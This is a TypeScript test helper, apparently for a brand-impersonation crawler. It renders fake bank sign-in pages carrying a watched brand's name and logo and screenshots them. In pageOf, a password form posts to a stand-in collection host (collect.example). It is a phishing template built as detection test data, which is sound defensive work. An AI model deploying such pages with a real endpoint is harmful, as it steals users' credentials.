import type { Browser } from 'playwright';
import sharp from 'sharp';
import { drawLogo } from '../../testbed/draw-logo.ts';
import type { WatchedName } from '../crawl/fill-brands.ts';

/** A page as a crawler's visit keeps it. */
export interface Photographed {
  markup: string;
  screenshot: Buffer;
  /** Where the logo is. */
  box: { left: number; top: number; width: number; height: number };
}

const colours = ['#0b3d91', '#8a1538', '#00594c', '#4b2e83'];

/** Pages that pose as a brand, each photographed in the size of the crawler's window. `number` is the brand's, as for its logo. */
export async function photographPages(
  browser: Browser,
  { word }: WatchedName,
  { number, count }: { number: number; count: number },
): Promise<Photographed[]> {
  const page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
  const pages: Photographed[] = [];
  for (let at = 0; at < count; at += 1) {
    const markup = pageOf(word, { logo: drawLogo(number), at });
    await page.setContent(markup);
    const box = await page.locator('svg').first().boundingBox();
    if (!box) throw new Error('the page shows no logo');
    const { x: left, y: top, width, height } = box;
    pages.push({ markup, screenshot: await page.screenshot(), box: { left, top, width, height } });
  }
  await page.close();
  return pages;
}

function pageOf(word: string, { logo, at }: { logo: string; at: number }): string {
  const offers = Array.from(
    { length: 4 + at },
    (_, nth) => `<li>Account ${nth + 1} of ${word}: ${(nth + 2) * 17 + at} % for new customers.</li>`,
  );
  return `<!doctype html><title>${word} bank: sign in</title>
    <style>body { font: 18px sans-serif; margin: ${16 + 8 * at}px; } form { background: ${colours[at % colours.length]};
      color: white; padding: 24px; width: ${360 + 40 * at}px; } input { display: block; margin: 8px 0 16px; width: 90%; }</style>
    ${logo}<h1>Welcome back to ${word}</h1>
    <form action="https://collect.example/in"><label>Customer number <input name=user></label>
      <label>Password <input type=password></label><button>Sign in</button></form><ul>${offers.join('')}</ul>`;
}

/** Two portraits beside each other, as the crawler aligns them. */
export async function drawFaces(): Promise<Buffer> {
  const head = (x: number, skin: string) =>
    `<circle cx="${x}" cy="112" r="80" fill="${skin}"/><circle cx="${x - 28}" cy="96" r="9"/><circle cx="${x + 28}" cy="96" r="9"/>
     <path d="M${x - 32} 146 q32 26 64 0" fill="none" stroke="black" stroke-width="6"/>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="448" height="224"><rect width="448" height="224" fill="#c8d4dc"/>
    ${head(112, '#e0b090')}${head(336, '#d8a888')}</svg>`;
  return sharp(Buffer.from(svg)).png().toBuffer();
}
